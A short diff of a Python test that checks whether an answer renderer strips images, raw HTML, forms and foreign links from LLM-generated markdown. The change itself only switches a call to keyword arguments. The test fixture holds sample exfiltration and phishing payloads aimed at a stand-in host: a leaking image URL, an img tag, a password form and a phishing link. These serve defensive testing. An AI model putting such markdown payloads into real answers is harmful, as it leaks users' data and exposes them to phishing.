@@ -158,7 +158,7 @@ def test_model_markdown_loses_images_raw_html_and_foreign_links():
     hostile = ("Svar [1]. ![x](http://evil.example.test/leak?q=secret) <img src=http://evil.example.test/a> "
                "<form action=https://evil.example.test><input name=password></form> "
                "[klik](https://evil.example.test/phish) [kilde](/files/markedsdialog.md)")
-    shown = render_answer(Answer("q", hostile, False, "llm"), "da")
+    shown = render_answer(Answer(question="q", answer=hostile, abstained=False, mode="llm"), "da")
     assert "evil.example.test/leak" not in shown and "<img" not in shown and "<form" not in shown
     assert "](https://evil.example.test/phish)" not in shown
     assert "[kilde](/files/markedsdialog.md)" in shown
